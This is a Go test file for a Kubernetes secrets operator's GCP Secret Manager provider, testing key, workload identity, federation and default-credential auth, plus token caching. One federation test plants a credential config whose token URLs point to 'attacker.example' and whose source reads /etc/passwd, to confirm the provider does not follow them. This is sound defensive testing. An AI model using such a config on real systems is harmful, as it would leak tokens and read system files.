package gcp

import (
	"context"
	"errors"
	"sync"
	"testing"
	"time"

	"golang.org/x/oauth2"
	"golang.org/x/oauth2/google"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	esv1 "github.com/secretbridge/secretbridge/api/v1"
	"github.com/secretbridge/secretbridge/internal/provider"
	"github.com/secretbridge/secretbridge/internal/provider/gcp/gcptest"
)

// The GKE cluster of the workload identity tests.
const (
	pool            = project + ".svc.id.goog"
	clusterLocation = "europe-west1"
	clusterName     = "c1"
)

// read reads secret "s" (whose value is "value") with cl.
func read(t *testing.T, cl *Client) {
	t.Helper()
	v, err := cl.GetSecret(t.Context(), esv1.ExternalSecretDataRemoteRef{Key: "s"})
	if err != nil {
		t.Fatal(err)
	}
	if string(v) != "value" {
		t.Fatalf("GetSecret = %q, want value", v)
	}
}

// addS adds secret "s" with value "value".
func (f *fixture) addS() {
	f.srv.AddVersion("projects/"+project+"/secrets/s", []byte("value"))
}

func TestKeyAuthNamespaces(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.addS()
	other := f.env.Namespace(t)
	email := unique("reader-") + "@" + project + ".iam.gserviceaccount.com"
	key, err := f.srv.ServiceAccountKey(email, project)
	if err != nil {
		t.Fatal(err)
	}
	f.srv.Grant(gcptest.Member(email), gcptest.RoleSecretAccessor, "projects/"+project)
	f.createSecret(t, f.ns, "gcp", map[string]string{"sa.json": string(key)})
	f.createSecret(t, other, "gcp-other", map[string]string{"sa.json": string(key)})
	spec := func(name, ns string) *esv1.GCPSMProvider {
		return &esv1.GCPSMProvider{Auth: &esv1.GCPSMAuth{SecretRef: &esv1.GCPSMAuthSecretRef{
			SecretAccessKey: &esv1.SecretKeySelector{Name: name, Key: "sa.json", Namespace: ns},
		}}}
	}
	cases := []struct {
		name      string
		store     provider.Store
		namespace string
		wantErr   error // nil: reads, with the project from the key
		wantText  string
	}{
		{name: "SecretStore reads its own namespace", store: namespacedStore(f.ns, spec("gcp", "")), namespace: f.ns},
		{name: "SecretStore ignores a namespace in the selector", store: namespacedStore(f.ns, spec("gcp-other", other)), namespace: f.ns, wantErr: &provider.ConfigError{}, wantText: "Secret " + f.ns + "/gcp-other not found"},
		{name: "ClusterSecretStore reads the selector's namespace", store: clusterStore(spec("gcp-other", other)), namespace: f.ns},
		{name: "ClusterSecretStore resolves in the referent namespace", store: clusterStore(spec("gcp", "")), namespace: f.ns},
		{name: "ClusterSecretStore without a referent namespace", store: clusterStore(spec("gcp", "")), wantErr: provider.ErrNoReferentNamespace},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			cl, err := f.p.NewClient(t.Context(), tc.store, f.env.Client, tc.namespace)
			if tc.wantErr != nil {
				var ce *provider.ConfigError
				if errors.As(tc.wantErr, &ce) && !errors.As(err, &ce) || !errors.As(tc.wantErr, &ce) && !errors.Is(err, tc.wantErr) {
					t.Fatalf("NewClient error = %v, want %v", err, tc.wantErr)
				}
				mustContain(t, "error", err.Error(), tc.wantText)
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			defer cl.Close(context.Background())
			if c := cl.(*Client); c.project != project {
				t.Errorf("project = %q, want %q from the key", c.project, project)
			}
			read(t, cl.(*Client))
		})
	}
}

func TestKeyAuthRejectsBadKeys(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	good, err := f.srv.ServiceAccountKey("k@"+project+".iam.gserviceaccount.com", project)
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name     string
		value    string
		wantText string
	}{
		{name: "not JSON", value: "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----", wantText: "is not a JSON key file"},
		{name: "external account", value: `{"type":"external_account","audience":"//iam.googleapis.com/x","private_key":"-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----"}`, wantText: `type "external_account"`},
		{name: "no private key", value: `{"type":"service_account","client_email":"a@b.iam.gserviceaccount.com"}`, wantText: "not a usable service account key"},
		{name: "truncated key", value: string(good[:len(good)/2]), wantText: "is not a JSON key file"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			name := unique("bad-key-")
			f.createSecret(t, f.ns, name, map[string]string{"sa.json": tc.value})
			spec := &esv1.GCPSMProvider{ProjectID: project, Auth: &esv1.GCPSMAuth{SecretRef: &esv1.GCPSMAuthSecretRef{
				SecretAccessKey: &esv1.SecretKeySelector{Name: name, Key: "sa.json"},
			}}}
			_, err := f.p.NewClient(t.Context(), namespacedStore(f.ns, spec), f.env.Client, f.ns)
			if !isConfigError(err) {
				t.Fatalf("NewClient error = %v, want a ConfigError", err)
			}
			mustContain(t, "error", err.Error(), tc.wantText, "secretAccessKeySecretRef", name)
			for _, leak := range []string{"PRIVATE KEY", "MIIE"} {
				if containsFold(err.Error(), leak) {
					t.Errorf("error quotes the key file (%q): %v", leak, err)
				}
			}
		})
	}
}

// wiSpec returns a workload identity spec for ServiceAccount sa.
func wiSpec(sa string) *esv1.GCPSMProvider {
	return &esv1.GCPSMProvider{ProjectID: project, Auth: &esv1.GCPSMAuth{WorkloadIdentity: &esv1.GCPWorkloadIdentity{
		ServiceAccountRef: esv1.ServiceAccountSelector{Name: sa},
		ClusterLocation:   clusterLocation,
		ClusterName:       clusterName,
	}}}
}

func TestWorkloadIdentity(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.addS()
	f.srv.TrustPool(audience(pool, project, clusterLocation, clusterName), pool)
	gsa := unique("reader-") + "@" + project + ".iam.gserviceaccount.com"
	f.srv.Grant(gcptest.Member(gsa), gcptest.RoleSecretAccessor, "projects/"+project)
	f.srv.AllowImpersonation(gcptest.GKEMember(pool, f.ns, "impersonating"), gsa)
	f.serviceAccount(t, f.ns, "impersonating", map[string]string{gsaAnnotation: gsa})
	f.srv.Grant(gcptest.GKEMember(pool, f.ns, "direct"), gcptest.RoleSecretAccessor, "projects/"+project)
	f.serviceAccount(t, f.ns, "direct", nil)
	f.serviceAccount(t, f.ns, "not-allowed", map[string]string{gsaAnnotation: "other@" + project + ".iam.gserviceaccount.com"})

	t.Run("impersonating the annotated account", func(t *testing.T) {
		cl := f.client(t, namespacedStore(f.ns, wiSpec("impersonating")), f.ns)
		read(t, cl)
		if cl.creds.identity != gsa {
			t.Errorf("identity = %q, want %q", cl.creds.identity, gsa)
		}
	})
	t.Run("federated identity without annotation", func(t *testing.T) {
		cl := f.client(t, namespacedStore(f.ns, wiSpec("direct")), f.ns)
		read(t, cl)
	})
	cases := []struct {
		name string
		spec *esv1.GCPSMProvider
		want []string
	}{
		{name: "impersonation not allowed", spec: wiSpec("not-allowed"), want: []string{"generateAccessToken", "roles/iam.workloadIdentityUser", gcptest.GKEMember(pool, f.ns, "not-allowed")}},
		{name: "wrong cluster", spec: func() *esv1.GCPSMProvider {
			s := wiSpec("direct")
			s.Auth.WorkloadIdentity.ClusterName = "other"
			return s
		}(), want: []string{"STS", "invalid_target", "workload identity pool provider"}},
		{name: "missing ServiceAccount", spec: wiSpec("missing"), want: []string{"ServiceAccount " + f.ns + "/missing not found"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			cl, err := f.p.NewClient(t.Context(), namespacedStore(f.ns, tc.spec), f.env.Client, f.ns)
			if err == nil {
				defer cl.Close(context.Background())
				_, err = cl.GetSecret(t.Context(), esv1.ExternalSecretDataRemoteRef{Key: "s"})
			}
			if err == nil {
				t.Fatal("want an error")
			}
			mustContain(t, "error", err.Error(), tc.want...)
		})
	}
}

func TestWorkloadIdentityFederation(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.addS()
	const aud = "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/k8s/providers/cluster"
	f.srv.TrustPool(aud, "https:"+aud)
	gsa := unique("wif-") + "@" + project + ".iam.gserviceaccount.com"
	f.srv.Grant(gcptest.Member(gsa), gcptest.RoleSecretAccessor, "projects/"+project)
	f.serviceAccount(t, f.ns, "app", nil)
	member := "principal://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/k8s/providers/cluster/subject/system:serviceaccount:" + f.ns + ":app"
	f.srv.AllowImpersonation(member, gsa)
	// credConfig's URLs point elsewhere: they must not be followed.
	conf := `{"type":"external_account","audience":"` + aud + `","subject_token_type":"urn:ietf:params:oauth:token-type:jwt",` +
		`"token_url":"https://attacker.example/v1/token","service_account_impersonation_url":"https://attacker.example/v1/projects/-/serviceAccounts/` + gsa + `:generateAccessToken",` +
		`"credential_source":{"file":"/etc/passwd"}}`
	cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: "wif"}, Data: map[string]string{"config.json": conf}}
	if err := f.env.Client.Create(t.Context(), cm); err != nil {
		t.Fatal(err)
	}
	spec := &esv1.GCPSMProvider{ProjectID: project, Auth: &esv1.GCPSMAuth{WorkloadIdentityFederation: &esv1.GCPWorkloadIdentityFederation{
		ServiceAccountRef: &esv1.ServiceAccountSelector{Name: "app"},
		CredConfig:        &esv1.ConfigMapReference{Name: "wif", Key: "config.json"},
	}}}
	cl := f.client(t, namespacedStore(f.ns, spec), f.ns)
	read(t, cl)
	if f.srv.Calls(gcptest.OpSTSToken) != 1 || f.srv.Calls(gcptest.OpGenerateAccessToken) != 1 {
		t.Errorf("STS calls %d, generateAccessToken calls %d, want 1 and 1", f.srv.Calls(gcptest.OpSTSToken), f.srv.Calls(gcptest.OpGenerateAccessToken))
	}
}

func TestDefaultCredentials(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.addS()
	email := unique("adc-") + "@" + project + ".iam.gserviceaccount.com"
	key, err := f.srv.ServiceAccountKey(email, project)
	if err != nil {
		t.Fatal(err)
	}
	f.srv.Grant(gcptest.Member(email), gcptest.RoleSecretAccessor, "projects/"+project)
	found := 0
	f.p.hooks.defaultCredentials = func(context.Context) (*google.Credentials, error) {
		found++
		cfg, err := google.JWTConfigFromJSON(key, scope)
		if err != nil {
			return nil, err
		}
		ctx := context.WithValue(context.Background(), oauth2.HTTPClient, f.srv.HTTPClient())
		return &google.Credentials{ProjectID: project, TokenSource: cfg.TokenSource(ctx)}, nil
	}
	cl := f.client(t, namespacedStore(f.ns, &esv1.GCPSMProvider{}), f.ns)
	read(t, cl)
	if found != 1 || cl.project != project {
		t.Errorf("default credentials looked up %d times, project %q; want 1 and %q", found, cl.project, project)
	}

	f.p.hooks.defaultCredentials = func(context.Context) (*google.Credentials, error) {
		return nil, errors.New("google: could not find default credentials")
	}
	_, err = f.p.NewClient(t.Context(), namespacedStore(f.ns, &esv1.GCPSMProvider{ProjectID: project}), f.env.Client, f.ns)
	var ce *CredentialsError
	if !errors.As(err, &ce) {
		t.Fatalf("NewClient error = %v, want a *CredentialsError", err)
	}
	mustContain(t, "error", err.Error(), "Application Default Credentials", "could not find default credentials", ".auth")
}

func TestTokensCachedAcrossReads(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.addS()
	f.srv.TrustPool(audience(pool, project, clusterLocation, clusterName), pool)
	gsa := unique("reader-") + "@" + project + ".iam.gserviceaccount.com"
	f.srv.Grant(gcptest.Member(gsa), gcptest.RoleSecretAccessor, "projects/"+project)
	f.srv.AllowImpersonation(gcptest.GKEMember(pool, f.ns, "app"), gsa)
	f.serviceAccount(t, f.ns, "app", map[string]string{gsaAnnotation: gsa})
	keyCl, _ := f.keyClient(t, nil, gcptest.RoleSecretAccessor)
	wiCl := f.client(t, namespacedStore(f.ns, wiSpec("app")), f.ns)

	const reads = 50
	var wg sync.WaitGroup
	for _, cl := range []*Client{keyCl, wiCl} {
		for range reads {
			wg.Go(func() { read(t, cl) })
		}
	}
	wg.Wait()
	for op, want := range map[string]int{
		gcptest.OpOAuthToken:          1,
		gcptest.OpSTSToken:            1,
		gcptest.OpGenerateAccessToken: 1,
		gcptest.OpAccessSecretVersion: 2 * reads,
	} {
		if n := f.srv.Calls(op); n != want {
			t.Errorf("%s calls = %d over %d reads per store, want %d", op, n, reads, want)
		}
	}
	t.Logf("token-endpoint calls over %d reads: oauth2 %d (key), sts %d + generateAccessToken %d (workload identity)",
		reads, f.srv.Calls(gcptest.OpOAuthToken), f.srv.Calls(gcptest.OpSTSToken), f.srv.Calls(gcptest.OpGenerateAccessToken))
}

func TestTokenRefreshedBeforeExpiry(t *testing.T) {
	t.Parallel()
	// Tokens live 4 s; the refresh window (5 min) is capped at half the
	// lifetime, so a token is replaced 2 s after it was issued, while it
	// is still valid.
	f := newFixtureWith(t, gcptest.Options{TokenLifetime: 4 * time.Second})
	f.addS()
	cl, _ := f.keyClient(t, nil, gcptest.RoleSecretAccessor)
	start := time.Now()
	read(t, cl)
	read(t, cl)
	if n := f.srv.Calls(gcptest.OpOAuthToken); n != 1 {
		t.Fatalf("token calls after two reads = %d, want 1", n)
	}
	time.Sleep(time.Until(start.Add(2300 * time.Millisecond)))
	read(t, cl)
	if n := f.srv.Calls(gcptest.OpOAuthToken); n != 2 {
		t.Fatalf("token calls after 2.3 s = %d, want 2 (refreshed before expiry)", n)
	}
	if took := time.Since(start); took > 3800*time.Millisecond {
		t.Fatalf("the test took %s, too long to prove the refresh came before expiry", took)
	}
	if n := f.srv.Calls(gcptest.OpAccessSecretVersion); n != 3 {
		t.Errorf("AccessSecretVersion calls = %d, want 3 (no call was rejected)", n)
	}
}

func TestRejectedTokenIsReplaced(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.addS()
	cl, _ := f.keyClient(t, nil, gcptest.RoleSecretAccessor)
	read(t, cl)
	f.srv.ExpireTokens()
	read(t, cl)
	if n := f.srv.Calls(gcptest.OpOAuthToken); n != 2 {
		t.Errorf("token calls = %d, want 2 (one after the rejection)", n)
	}
	if n := f.srv.Calls(gcptest.OpAccessSecretVersion); n != 3 {
		t.Errorf("AccessSecretVersion calls = %d, want 3 (one rejected)", n)
	}
}
